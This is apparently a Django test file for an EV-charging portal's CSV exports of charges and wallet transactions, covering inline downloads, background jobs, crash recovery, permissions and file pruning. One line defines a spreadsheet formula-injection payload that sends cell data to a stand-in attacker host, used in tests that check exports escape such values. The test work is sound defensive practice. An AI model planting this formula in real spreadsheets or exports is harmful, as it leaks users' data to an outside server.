"""CSV exports of charges and wallet transactions: small ones now (with their length), large ones
as a background job with progress and a download; safe to run twice, concurrently, after a crash."""
import csv as stdlib_csv
import io
import os
from datetime import UTC, timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from charging import exports
from charging.models import Export
from portal.models import AuditEvent
from portal.permissions import Role
from tests.concurrency import at_once
from tests.factories import ChargeFactory, ChargePointFactory, OperatorFactory, SiteFactory, member

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def eager(monkeypatch):
    from portal.celery import app

    monkeypatch.setattr(app.conf, "task_always_eager", True)  # also when REDIS_URL is set: no worker here


@pytest.fixture
def charges(operator):
    harbour = SiteFactory(operator=operator, name="Harbour")
    depot = SiteFactory(operator=operator, name="@Depot")
    a = ChargePointFactory(operator=operator, site=harbour, name="+A", evse_id="DK*TST*E1")
    b = ChargePointFactory(operator=operator, site=depot, name="B", evse_id="DK*TST*E2")
    start = timezone.now() - timedelta(days=3)
    rows = [ChargeFactory(operator=operator, charge_point=a if i % 2 else b, started_at=start + timedelta(hours=i),
                          external_id=ATTACK if i == 3 else f"C{i}", price=Decimal(f"{i}.50"),
                          failure_reason="-1" if i == 4 else "") for i in range(7)]
    return {"harbour": harbour, "depot": depot, "rows": rows}


def _break_half_way(monkeypatch, then=None):
    """Making the file fails after its first rows: on PostgreSQL the COPY's query divides by zero
    at its third row (a real error of the database half-way); in Python the rows raise."""
    real_select, real_rows, real_file = exports._copy_select, exports.charge_rows, exports.charges_to_file

    def broken_select(qs):
        sql, params = real_select(qs)
        return f"SELECT q.*, 1 / (3 - row_number() OVER ()) FROM ({sql}) q", params

    def broken_rows(qs):
        yield from list(real_rows(qs))[:3]
        raise RuntimeError("database went away")

    def then_file(qs, **options):
        if then:
            then()
        return real_file(qs, **options)

    monkeypatch.setattr(exports, "_copy_select", broken_select)
    monkeypatch.setattr(exports, "charge_rows", broken_rows)
    monkeypatch.setattr(exports, "charges_to_file", then_file)


def _csv(content: bytes):
    text = content.decode()
    assert text.startswith("\ufeff")
    return list(stdlib_csv.reader(io.StringIO(text[1:])))


def _body(response):
    return b"".join(response.streaming_content)


def test_small_export_is_the_whole_file_with_its_length(admin_client, operator, charges):
    response = admin_client.get(f"/o/{operator.slug}/charges/?format=csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=\"charges-")
    body = _body(response)
    assert int(response["Content-Length"]) == len(body)  # a client can tell a cut-off file
    header, *rows = _csv(body)
    assert header == exports.CHARGE_HEADER
    assert [int(r[0]) for r in rows] == [c.pk for c in sorted(charges["rows"], key=lambda c: c.started_at,
                                                                  reverse=True)]
    by_id = {int(r[0]): dict(zip(header, r, strict=True)) for r in rows}
    third = by_id[charges["rows"][3].pk]
    assert third["external_id"] == "'" + ATTACK and third["charge_point"] == "'+A" and third["site"] == "Harbour"
    assert by_id[charges["rows"][4].pk]["failure_reason"] == "'-1"
    assert by_id[charges["rows"][0].pk]["site"] == "'@Depot" and by_id[charges["rows"][0].pk]["price"] == "0.50"
    assert third["started_at"] == charges["rows"][3].started_at.astimezone(UTC).replace(microsecond=0).isoformat()


def test_small_export_keeps_the_filters(admin_client, operator, charges):
    harbour = charges["harbour"]
    body = _body(admin_client.get(f"/o/{operator.slug}/charges/?format=csv&site={harbour.pk}"))
    rows = _csv(body)[1:]
    assert len(rows) == 3 and {r[5] for r in rows} == {"Harbour"}


def test_large_export_is_offered_as_a_job_then_downloaded(admin_client, admin_user, operator, charges, settings,
                                                          media, eager, django_capture_on_commit_callbacks):
    settings.CHARGING_EXPORT_INLINE_MAX_ROWS = 2
    query = f"site={charges['harbour'].pk}&format=csv"
    page = admin_client.get(f"/o/{operator.slug}/charges/?{query}")
    html = page.content.decode()
    assert page.status_code == 200 and page["Content-Type"].startswith("text/html")  # no cut-off CSV
    assert 'data-testid="export-count">3</strong>' in html and "Site: Harbour" in html
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(f"/o/{operator.slug}/exports/new/", {"kind": "charges", "query": query})
    assert response.status_code == 302
    export = Export.objects.get()
    assert (export.state, export.processed, export.total, export.requested_by) == ("done", 3, 3, admin_user)
    assert export.expires_at > timezone.now() + timedelta(days=6)
    detail = admin_client.get(response["Location"]).content.decode()
    assert "Download CSV" in detail and "Site: Harbour" in detail
    partial = admin_client.get(response["Location"], HTTP_HX_REQUEST="true").content.decode()
    assert partial.lstrip().startswith('<section class="card" id="export-progress"') and "hx-trigger" not in partial
    download = admin_client.get(f"/o/{operator.slug}/exports/{export.pk}/download/")
    assert download.status_code == 200 and int(download["Content-Length"]) == export.size
    settings.CHARGING_EXPORT_INLINE_MAX_ROWS = 100
    inline = _body(admin_client.get(f"/o/{operator.slug}/charges/?{query}"))
    assert _body(download) == inline  # the job writes exactly what the request would have
    listing = admin_client.get(f"/o/{operator.slug}/exports/").content.decode()
    assert "Harbour" in listing and admin_user.email in listing and "Download" in listing
    event = AuditEvent.objects.get(item_type="export")
    assert event.actor == admin_user and event.changes["kind"]["after"] == "charges"


def test_progress_polls_while_the_job_runs(admin_client, operator):
    export = Export.objects.create(operator=operator, kind="charges", state="running", total=200_000,
                                   processed=50_000)
    html = admin_client.get(f"/o/{operator.slug}/exports/{export.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 1s"' in html and "50,000 / 200,000</strong> rows (25 %)" in html
    response = admin_client.get(f"/o/{operator.slug}/exports/{export.pk}/download/")
    assert response.status_code == 302  # not ready: back to its page, with a message
    assert "not ready yet" in admin_client.get(response["Location"]).content.decode()


def test_running_it_twice_makes_one_file(operator, charges, media):
    export = Export.objects.create(operator=operator, kind="charges", total=7)
    exports.run(export.pk)
    exports.run(export.pk)  # delivered again: already done, left alone
    export.refresh_from_db()
    assert (export.state, export.processed, export.attempts) == ("done", 7, 1)
    assert len(list((media / "exports" / str(operator.pk)).iterdir())) == 1


def test_a_crashed_job_is_taken_over_only_once_it_has_gone_silent(operator, charges, media):
    export = Export.objects.create(operator=operator, kind="charges", state="running", total=7,
                                   heartbeat_at=timezone.now() - timedelta(minutes=2))
    exports.run(export.pk)  # still alive (2 minutes): another worker keeps its hands off
    export.refresh_from_db()
    assert export.state == "running" and not export.file
    Export.objects.filter(pk=export.pk).update(heartbeat_at=timezone.now() - exports.STALE - timedelta(seconds=1))
    exports.run(export.pk)
    export.refresh_from_db()
    assert export.state == "done" and export.processed == 7 and export.file


def test_a_failure_half_way_leaves_no_file_and_says_so(admin_client, operator, charges, media, monkeypatch):
    _break_half_way(monkeypatch)
    export = Export.objects.create(operator=operator, kind="charges", total=7)
    with pytest.raises(Exception, match="database went away|division by zero"):
        exports.run(export.pk)
    export.refresh_from_db()
    assert export.state == "failed" and not export.file and "please ask for it again" in export.message
    assert not (media / "exports").exists() or not any((media / "exports").rglob("*.csv"))
    page = admin_client.get(f"/o/{operator.slug}/exports/{export.pk}/").content.decode()
    assert "please ask for it again" in page and "Download CSV" not in page


def test_a_small_export_that_fails_is_an_error_not_a_cut_off_file(admin_client, operator, charges, monkeypatch):
    _break_half_way(monkeypatch)
    admin_client.raise_request_exception = False
    assert admin_client.get(f"/o/{operator.slug}/charges/?format=csv").status_code == 500


@pytest.mark.parametrize("data,message", [
    ({"kind": "nope", "query": ""}, None),
    ({"kind": "charges", "query": "date_from=yesterday"}, "Enter a valid date."),
    ({"kind": "charges", "query": "site=999999"}, "Site: Select a valid choice."),
])
def test_bad_requests_are_refused_and_nothing_is_queued(admin_client, operator, data, message):
    response = admin_client.post(f"/o/{operator.slug}/exports/new/", data)
    assert response.status_code == 400
    if message:
        assert message in response.content.decode()
    assert not Export.objects.exists()


def test_a_member_may_have_three_exports_in_preparation(admin_client, admin_user, operator):
    for _ in range(3):
        Export.objects.create(operator=operator, requested_by=admin_user, kind="charges", state="queued")
    response = admin_client.post(f"/o/{operator.slug}/exports/new/", {"kind": "charges", "query": ""})
    assert response.status_code == 400 and "already have 3 exports" in response.content.decode()
    assert Export.objects.count() == 3


def test_another_operators_export_is_not_found(login, operator, charges, media):
    other = OperatorFactory()
    export = Export.objects.create(operator=other, kind="charges", total=1)
    exports.run(export.pk)
    client = login(member(operator, Role.SUPPORTER))
    for url in (f"/o/{operator.slug}/exports/{export.pk}/", f"/o/{operator.slug}/exports/{export.pk}/download/"):
        assert client.get(url).status_code == 404
    assert "No exports yet" in client.get(f"/o/{operator.slug}/exports/").content.decode()


def test_old_files_are_pruned_and_the_page_says_so(admin_client, operator, charges, media):
    export = Export.objects.create(operator=operator, kind="charges", total=7)
    exports.run(export.pk)
    export.refresh_from_db()
    path = export.file.path
    assert os.path.exists(path)
    assert exports.prune() == 0
    Export.objects.filter(pk=export.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    assert exports.prune() == 1
    export.refresh_from_db()
    assert export.state == "expired" and not export.file and not os.path.exists(path)
    assert "no longer kept" in admin_client.get(f"/o/{operator.slug}/exports/{export.pk}/").content.decode()
    assert admin_client.get(f"/o/{operator.slug}/exports/{export.pk}/download/").status_code == 302


def test_wallet_export_goes_the_same_way(admin_client, operator, settings, media, eager,
                                         django_capture_on_commit_callbacks):
    from tests.factories import WalletTransactionFactory

    for i in range(3):
        WalletTransactionFactory(operator=operator, amount=Decimal("10.00"), note=f"=n{i}")
    settings.CHARGING_EXPORT_INLINE_MAX_ROWS = 1
    assert "Prepare export" in admin_client.get(f"/o/{operator.slug}/wallet/?format=csv").content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(f"/o/{operator.slug}/exports/new/", {"kind": "wallet", "query": "format=csv"})
    export = Export.objects.get()
    rows = _csv(_body(admin_client.get(f"/o/{operator.slug}/exports/{export.pk}/download/")))
    assert rows[0] == exports.WALLET_HEADER and len(rows) == 4
    assert [r[7] for r in rows[1:]] == ["10.00", "20.00", "30.00"] and rows[1][9] == "'=n0"


@pytest.mark.skipif(not os.environ.get("DATABASE_URL", "").startswith("postgres"), reason="needs PostgreSQL")
@pytest.mark.django_db(transaction=True)
def test_two_workers_at_once_make_one_file(media):
    operator = OperatorFactory()
    point = ChargePointFactory(operator=operator)
    for i in range(20):
        ChargeFactory(operator=operator, charge_point=point, external_id=f"P{i}")
    export = Export.objects.create(operator=operator, kind="charges", total=20)
    at_once(lambda: exports.run(export.pk), times=4)
    export.refresh_from_db()
    assert (export.state, export.processed, export.attempts) == ("done", 20, 1)
    assert len(list((media / "exports" / str(operator.pk)).iterdir())) == 1
